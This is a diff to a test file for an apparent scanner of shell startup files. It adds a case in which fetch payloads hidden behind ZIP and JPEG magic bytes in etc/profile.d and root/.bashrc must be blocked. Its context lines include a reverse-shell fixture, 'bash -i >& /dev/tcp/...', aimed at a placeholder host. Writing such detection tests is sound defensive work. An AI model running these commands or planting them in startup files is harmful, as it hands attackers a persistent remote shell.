@@ -29,6 +29,11 @@ const cases = [
     ],
   },
   {
+    name: 'whatever the file begins with',
+    files: { 'etc/profile.d/x.sh': `PK\x03\x04\0\n${FETCH}`, 'root/.bashrc': `\xff\xd8\xff\0\n${FETCH}` },
+    expected: [`block ${RULE} etc/profile.d/x.sh`, `block ${RULE} root/.bashrc`],
+  },
+  {
     name: 'a connection that a shell gets is refused, one that is only opened is for review',
     files: {
       'etc/profile': 'bash -i >& /dev/tcp/x.invalid/1 0>&1\n',
